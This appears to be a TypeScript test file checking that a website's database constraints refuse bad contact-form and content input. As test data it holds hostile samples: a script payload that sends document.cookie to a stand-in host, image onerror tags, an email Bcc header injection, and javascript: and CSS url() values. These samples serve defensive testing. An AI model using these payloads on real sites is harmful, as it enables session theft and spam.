// Bad input is refused by the database itself, whoever sends it; text that looks like markup is
// stored exactly as typed (escaping is the page's and the email's job, never the database's).
import { CHECK_VIOLATION, NOT_NULL_VIOLATION, sqlState, type DbRole, type Row, type TestDatabase } from '../../support/database';

interface Submission {
  name: string | null;
  email: string | null;
  company: string | null;
  message: string | null;
  type: string | null;
}

const VALID: Submission = {
  name: 'Sari Wulandari',
  email: 'sari@example.co.id',
  company: 'Bank Sampah Sejahtera',
  message: 'Could we see AdaSorter on our line in Bekasi?',
  type: 'contact',
};

// 64 + 1 + 255 = 320 characters, every label within 63.
const EMAIL_320 = `${'a'.repeat(64)}@${['b', 'c', 'd', 'e'].map((c) => c.repeat(63)).join('.')}`;

type Verdict = 'stored' | 'check violation' | 'not null violation';

function verdictOf(error: unknown): Verdict {
  if (sqlState(error) === CHECK_VIOLATION) return 'check violation';
  if (sqlState(error) === NOT_NULL_VIOLATION) return 'not null violation';
  throw error;
}

const SUBMISSION_CASES: Array<[string, Partial<Submission>, Verdict]> = [
  ['a complete inquiry', {}, 'stored'],
  ['an investor inquiry', { type: 'investor' }, 'stored'],
  ['no company', { company: null }, 'stored'],
  ['an empty company field', { company: '' }, 'stored'],
  ['a name of 200 characters', { name: 'n'.repeat(200) }, 'stored'],
  ['a company of 200 characters', { company: 'c'.repeat(200) }, 'stored'],
  ['an email of 320 characters', { email: EMAIL_320 }, 'stored'],
  ['a tagged email on a subdomain', { email: 'first.last+adasorter@mail.example.co.id' }, 'stored'],
  ['a message of 1 character', { message: '?' }, 'stored'],
  ['a message of 5000 characters', { message: 'm'.repeat(5000) }, 'stored'],
  ['a missing name', { name: null }, 'not null violation'],
  ['an empty name', { name: '' }, 'check violation'],
  ['a blank name', { name: '  \t\n ' }, 'check violation'],
  ['a name of 201 characters', { name: 'n'.repeat(201) }, 'check violation'],
  ['a company of 201 characters', { company: 'c'.repeat(201) }, 'check violation'],
  ['a missing email', { email: null }, 'not null violation'],
  ['an empty email', { email: '' }, 'check violation'],
  ['an email without @', { email: 'sari.example.com' }, 'check violation'],
  ['an email without a domain dot', { email: 'sari@localhost' }, 'check violation'],
  ['an email with a space', { email: 'sari wulandari@example.com' }, 'check violation'],
  ['an email with a header injection', { email: 'sari@example.com\r\nBcc: all@example.net' }, 'check violation'],
  ['an email with a display name', { email: 'Sari <sari@example.com>' }, 'check violation'],
  ['two addresses in one', { email: 'sari@example.com,budi@example.com' }, 'check violation'],
  ['an email with two @', { email: 'sari@@example.com' }, 'check violation'],
  ['a domain starting with a hyphen', { email: 'sari@-example.com' }, 'check violation'],
  ['an email of 321 characters', { email: `a${EMAIL_320}` }, 'check violation'],
  ['a missing message', { message: null }, 'not null violation'],
  ['an empty message', { message: '' }, 'check violation'],
  ['a blank message', { message: ' \n\n ' }, 'check violation'],
  ['a message of 5001 characters', { message: 'm'.repeat(5001) }, 'check violation'],
  ['a missing type', { type: null }, 'not null violation'],
  ['an unknown type', { type: 'newsletter' }, 'check violation'],
  ['a type in the wrong case', { type: 'Investor' }, 'check violation'],
  ['an empty type', { type: '' }, 'check violation'],
];

const MARKUP: Submission = {
  name: '<script>alert("name")</script>',
  email: "o'brien+adasorter@example.com",
  company: '<img src=x onerror="alert(1)"> & Co.',
  message: '</textarea><script>document.location="https://evil.example/?c="+document.cookie</script>\n<b>bold?</b> &amp; \'quoted\'',
  type: 'investor',
};

type ContentCase = [string, string, Verdict];

// As service_role, which has every grant: only the constraints stand in the way.
// One case a line reads as a table, so Prettier leaves it as written:
// prettier-ignore
const CONTENT_CASES: ContentCase[] = [
  ['a material with a known status', `material_coverage (name, description, status) values ('Batteries', 'Cells', 'live')`, 'stored'],
  ['a material with an unknown status', `material_coverage (name, description, status) values ('Batteries', 'Cells', 'archived')`, 'check violation'],
  ['a material with a blank name', `material_coverage (name, description, status) values ('   ', 'Cells', 'live')`, 'check violation'],
  // Optional text may be missing: the page falls back (no paragraph, the neutral icon, ...).
  ['a material without a description', `material_coverage (name, status) values ('Batteries', 'live')`, 'stored'],
  ['a material without a name', `material_coverage (description, status) values ('Cells', 'live')`, 'not null violation'],
  ['a material without a status', `material_coverage (name, description) values ('Batteries', 'Cells')`, 'not null violation'],
  ['a timeline item without a description or icon', `timeline (period, title, status, icon) values ('Q1 2027', 'T', 'upcoming', null)`, 'stored'],
  ['a timeline item without a title', `timeline (period, description, status) values ('Q1 2027', 'D', 'upcoming')`, 'not null violation'],
  ['a feature card with only a classification and a title', `feature_cards (classification, title) values ('worker', 'T')`, 'stored'],
  ['a feature card without a classification', `feature_cards (title) values ('T')`, 'not null violation'],
  ['a feature card with a blank title', `feature_cards (classification, title) values ('worker', ' ')`, 'check violation'],
  ['a material image on the site', `material_coverage (name, description, status, image) values ('B', 'C', 'live', '/images/materials/pet.svg')`, 'stored'],
  // Where an https picture may come from is ./picture-links.ts.
  ['a material image from a host nobody listed', `material_coverage (name, description, status, image) values ('B', 'C', 'live', 'https://cdn.example.com/b.svg')`, 'check violation'],
  ['a javascript: image', `material_coverage (name, description, status, image) values ('B', 'C', 'live', 'javascript:alert(1)')`, 'check violation'],
  ['a protocol-relative image', `material_coverage (name, description, status, image) values ('B', 'C', 'live', '//evil.example/b.svg')`, 'check violation'],
  ['a timeline item with an unknown status', `timeline (period, title, description, status, icon) values ('Q1 2027', 'T', 'D', 'done', 'Clock')`, 'check violation'],
  ['a timeline item with an unknown icon', `timeline (period, title, description, status, icon) values ('Q1 2027', 'T', 'D', 'upcoming', 'Sparkles')`, 'stored'],
  ['a timeline item with a blank title', `timeline (period, title, description, status, icon) values ('Q1 2027', '', 'D', 'upcoming', 'Clock')`, 'check violation'],
  ['a feature card with an unknown classification', `feature_cards (classification, title, subtitle, icon, icon_color) values ('robot', 'T', 'S', '★', '#0f766e')`, 'check violation'],
  ['a feature card without an icon', `feature_cards (classification, title, subtitle, icon, icon_color) values ('worker', 'T', 'S', '', '#0f766e')`, 'check violation'],
  ['a feature card colour as a keyword', `feature_cards (classification, title, subtitle, icon, icon_color) values ('worker', 'T', 'S', '★', 'teal')`, 'stored'],
  ['a feature card colour as rgb()', `feature_cards (classification, title, subtitle, icon, icon_color) values ('worker', 'T', 'S', '★', 'rgb(15, 118, 110)')`, 'stored'],
  ['a feature card colour carrying url()', `feature_cards (classification, title, subtitle, icon, icon_color) values ('worker', 'T', 'S', '★', 'url(https://evil.example/x)')`, 'check violation'],
  ['a feature card colour with a second declaration', `feature_cards (classification, title, subtitle, icon, icon_color) values ('worker', 'T', 'S', '★', 'red;background:red')`, 'check violation'],
];

export function describeConstraints(database: () => TestDatabase): void {
  async function submit(role: DbRole, fields: Submission): Promise<Verdict> {
    return database().rolledBack(role, async (session) => {
      try {
        await session.query('insert into public.contact_submissions (name, email, company, message, type) values ($1, $2, $3, $4, $5)', [
          fields.name,
          fields.email,
          fields.company,
          fields.message,
          fields.type,
        ]);
        return 'stored';
      } catch (error) {
        return verdictOf(error);
      }
    });
  }

  describe('contact_submissions refuses bad input from a visitor', () => {
    const cases = SUBMISSION_CASES.map(([input, change, verdict]) => ({ input, change, verdict }));
    test.each(cases)('$input → $verdict', async ({ change, verdict }) => {
      await expect(submit('anon', { ...VALID, ...change })).resolves.toBe(verdict);
    });
  });

  test('the bounds hold for service_role too: they are constraints, not permissions', async () => {
    await expect(submit('service_role', { ...VALID, message: '' })).resolves.toBe('check violation');
    await expect(submit('service_role', { ...VALID, type: 'newsletter' })).resolves.toBe('check violation');
  });

  test('markup in an inquiry is stored verbatim, and the server sets created_at and leaves notified_at empty', async () => {
    const stored = await database().rolledBack('anon', async (session) => {
      const id = 'c0ffee00-0000-4000-8000-00000000beef';
      await session.query(
        'insert into public.contact_submissions (id, name, email, company, message, type) values ($1, $2, $3, $4, $5, $6)',
        [id, MARKUP.name, MARKUP.email, MARKUP.company, MARKUP.message, MARKUP.type],
      );
      await session.setRole('service_role');
      const { rows } = await session.query(
        `select name, email, company, message, type, notified_at,
                created_at = now() as stamped_now
           from public.contact_submissions where id = $1`,
        [id],
      );
      return rows[0];
    });
    expect(stored).toEqual<Row>({ ...MARKUP, notified_at: null, stamped_now: true });
  });

  describe('content tables refuse values the site cannot show', () => {
    test.each(CONTENT_CASES)('%s → %s', async (_case, insert, verdict) => {
      const outcome = await database().rolledBack('service_role', async (session) => {
        try {
          await session.query(`insert into public.${insert}`);
          return 'stored';
        } catch (error) {
          return verdictOf(error);
        }
      });
      expect(outcome).toBe(verdict);
    });
  });

  test('markup in content is published verbatim to visitors', async () => {
    const title = '<b>Bold?</b><script>alert("card")</script>';
    const published = await database().rolledBack('service_role', async (session) => {
      await session.query(
        `insert into public.feature_cards (classification, title, subtitle, icon, icon_color)
         values ('worker', $1, '<i>&amp;</i>', '<>', '#0f766e')`,
        [title],
      );
      await session.setRole('anon');
      const { rows } = await session.query('select title, subtitle, icon from public.feature_cards where title = $1', [title]);
      return rows;
    });
    expect(published).toEqual([{ title, subtitle: '<i>&amp;</i>', icon: '<>' }]);
  });
}
